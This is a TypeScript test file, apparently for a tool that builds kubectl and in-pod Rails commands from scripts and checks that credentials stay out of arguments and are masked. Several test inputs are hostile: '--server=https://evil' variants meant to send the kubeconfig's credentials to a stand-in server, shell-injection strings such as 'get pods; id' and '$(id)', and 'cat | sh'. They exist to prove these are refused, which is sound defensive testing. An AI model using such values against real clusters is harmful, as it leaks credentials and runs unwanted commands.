import { describe, expect, it } from 'vitest';
import { buildCommand } from '../../../core/integrations/build-command.ts';
import { secretValues } from '../../../core/secret-values.ts';
import { specOf } from '../../support/spec.ts';

const kubeconfig = 'apiVersion: v1\nkind: Config\nusers:\n- name: a\n  user:\n    token: a-token-of-9\n';
const encoded = Buffer.from(kubeconfig).toString('base64');
const build = (type: string, script: string, secret = {}) =>
  buildCommand(specOf({ type, script }), { KUBE_CONFIG_DATA: encoded, ...secret }, '/scratch/7').command;
const text = (content: string | Uint8Array | undefined) => Buffer.from(content ?? '').toString();
const shop = { NAMESPACE: 'shop', DEPLOYMENT: 'web' };

describe('a command of kubectl', () => {
  it('has the kubeconfig in a file of its own, and no secret in its arguments', () => {
    const command = build('k8s', "get pods -n shop -l 'app in (web, api)'");
    expect(command).toMatchObject({
      argv: ['kubectl', 'get', 'pods', '-n', 'shop', '-l', 'app in (web, api)'],
      env: { KUBECONFIG: '/scratch/7/kubeconfig', KUBE_EDITOR: 'false' },
      stdin: null,
    });
    expect(command.files.map(({ name, content }) => [name, text(content)])).toEqual([
      ['kubeconfig', kubeconfig],
    ]);
  });

  it('takes the kubeconfig in base64 with line breaks, as YAML and as JSON', () => {
    const json = '{"apiVersion": "v1", "kind": "Config"}';
    const wrapped = encoded.replace(/.{20}/g, '$&\n');
    for (const [given, used] of [
      [wrapped, kubeconfig],
      [kubeconfig, kubeconfig],
      [`# ours\n---\n${kubeconfig}`, `# ours\n---\n${kubeconfig}`],
      [json, json],
    ]) {
      expect(text(build('k8s', 'version', { KUBE_CONFIG_DATA: given }).files[0]?.content)).toBe(used);
    }
    expect(() => build('k8s', 'version', { KUBE_CONFIG_DATA: 'not a kubeconfig!' })).toThrow(
      'KUBE_CONFIG_DATA must be a kubeconfig encoded as base64',
    );
  });

  it.for(['k8s', 'k8s-apply', 'k8s-exec'])('of %s needs a kubeconfig', (type) => {
    expect(() => build(type, 'get pods', { KUBE_CONFIG_DATA: '' })).toThrow(
      'K8s type requires KUBE_CONFIG_DATA secret. Missing or empty: KUBE_CONFIG_DATA. Add',
    );
  });

  it('of rails-console-k8s needs a namespace and a deployment too', () => {
    expect(() => build('rails-console-k8s', 'puts 1')).toThrow(
      'Rails-console-k8s type requires KUBE_CONFIG_DATA, NAMESPACE and DEPLOYMENT secret. Missing or empty: ' +
        'NAMESPACE, DEPLOYMENT. Add',
    );
  });

  it('of k8s may begin with kubectl or not', () => {
    expect(build('k8s', ' kubectl\tget  pods\n').argv).toEqual(['kubectl', 'get', 'pods']);
    expect(() => build('k8s', 'kubectl')).toThrow('The script cannot be used: it is empty');
  });

  it.for(['get pods | wc', 'get pods; id', 'get $(id)', 'get pods\nid', 'get pods > x'])(
    'is none of a shell: %j',
    (script) => {
      expect(() => build('k8s', script)).toThrow('needs a shell. It is one command and its arguments');
      expect(() => build('k8s-exec', script)).toThrow('needs a shell. It is one command and its arguments');
    },
  );

  it.for([
    ...['get pods --server=https://evil', '--server https://evil get pods', 'get pods -s https://evil'],
    ...['get pods -shttps://evil', 'get pods -As https://evil', "get pods '--server' x", 'logs -fs x web'],
  ])('sends its credentials to no other server: %s', (script) => {
    expect(() => build('k8s', script)).toThrow(
      /The script cannot be used: -.* would send the target's credentials to a server of the script's choice/,
    );
  });

  it.for([
    ...[
      'get pods -o json',
      'get pods -ojson',
      'get pods -A -l app=s',
      'exec web -- ls -s',
      'logs web --since=1h',
    ],
    ...['apply --server-side -k x', 'get pods --selector=a=b', 'get svc -nshop'],
  ])('keeps its other options: %s', (script) => {
    expect(build('k8s', script).argv).toEqual(['kubectl', ...script.split(' ')]);
  });

  it('of k8s-apply has the manifest in a file, however it is written', () => {
    const script = '--server=x $(id)\n\0{{ .x }}';
    const command = build('k8s-apply', script);
    expect(command.argv).toEqual(['kubectl', 'apply', '--filename', '/scratch/7/manifest.yaml']);
    expect(command.files[1]).toEqual({ name: 'manifest.yaml', content: script });
    expect(command.stdin).toBeNull();
  });
});

describe('a command in a pod', () => {
  const exec = ['kubectl', 'exec', '--stdin'];

  it('is the script, whose first word is the resource', () => {
    const argv = [...exec, 'deploy/web', '--', 'ls', '-l', 'a b'];
    expect(build('k8s-exec', "deploy/web ls -l 'a b'")).toMatchObject({ argv, stdin: null });
    expect(build('k8s-exec', "deploy/web -- ls -l 'a b'\n").argv).toEqual(argv);
  });

  it('has the namespace and the container of the secret', () => {
    const secret = { NAMESPACE: 'shop', K8S_EXEC_CONTAINER: 'app' };
    const where = ['--namespace=shop', '--container=app', 'web-1', '--', 'env'];
    expect(build('k8s-exec', 'web-1 env', secret).argv).toEqual([...exec, ...where]);
  });

  it('is that of the secret when it has both keys, with the script as its input, whatever it says', () => {
    const secret = { K8S_EXEC_RESOURCE: 'deploy/web', K8S_EXEC_COMMAND: `rails runner 'load "/dev/stdin"'` };
    const script = '$(id)\n\0--\n';
    expect(build('k8s-exec', script, secret)).toMatchObject({
      argv: [...exec, 'deploy/web', '--', 'rails', 'runner', 'load "/dev/stdin"'],
      stdin: script,
    });
    const { K8S_EXEC_COMMAND, ...half } = secret;
    expect(build('k8s-exec', 'web-1 id', half).argv).toEqual([...exec, 'web-1', '--', 'id']);
    expect(build('k8s-exec', 'web-1 id', { K8S_EXEC_COMMAND }).argv).toEqual([...exec, 'web-1', '--', 'id']);
  });

  it('needs a resource that is no option, and a command', () => {
    const both = { K8S_EXEC_RESOURCE: '-s', K8S_EXEC_COMMAND: 'id' };
    expect(() => build('k8s-exec', '--server=https://evil web-1 id')).toThrow(
      'The script cannot be used: it begins with --server=https://evil, where the resource belongs. Write the',
    );
    expect(() => build('k8s-exec', '', both)).toThrow('K8S_EXEC_RESOURCE cannot be used: it begins with -s');
    expect(() => build('k8s-exec', 'web-1')).toThrow('it names a resource but no command');
    expect(() => build('k8s-exec', 'web-1 --')).toThrow('it names a resource but no command');
    const pipe = { K8S_EXEC_RESOURCE: 'web-1', K8S_EXEC_COMMAND: 'cat | sh' };
    expect(() => build('k8s-exec', '', pipe)).toThrow(
      'K8S_EXEC_COMMAND cannot be used: "| sh" needs a shell',
    );
  });

  it('of Rails is its runner, with the script as its input', () => {
    const script = `puts "it's $(id)"\n`;
    const rails = ['bundle', 'exec', 'rails', 'runner', '-'];
    expect(build('rails-console-k8s', script, shop)).toMatchObject({
      argv: [...exec, '--namespace=shop', 'deploy/web', '--', ...rails],
      stdin: script,
    });
    const { argv } = build('rails-console-k8s', script, { ...shop, K8S_EXEC_CONTAINER: 'app' });
    expect(argv).toEqual([...exec, '--namespace=shop', '--container=app', 'deploy/web', '--', ...rails]);
  });

  it('takes no option from the secret', () => {
    const secret = { NAMESPACE: '--server=https://evil', DEPLOYMENT: '--server=https://evil' };
    const { argv } = build('rails-console-k8s', '', secret);
    expect(argv.filter((word) => word.startsWith('--server'))).toEqual([]);
  });
});

it('what a kubeconfig holds is masked, and where it leads is not', () => {
  const { secrets, integration } = buildCommand(
    specOf({ type: 'rails-console-k8s', script: 'puts 1' }),
    { KUBE_CONFIG_DATA: encoded, NAMESPACE: 'shop-production', DEPLOYMENT: 'web-frontend' },
    '/scratch/7',
  );
  const values = secretValues(secrets, integration.publicKeys);
  expect(values).toEqual([encoded, 'a-token-of-9']);
});
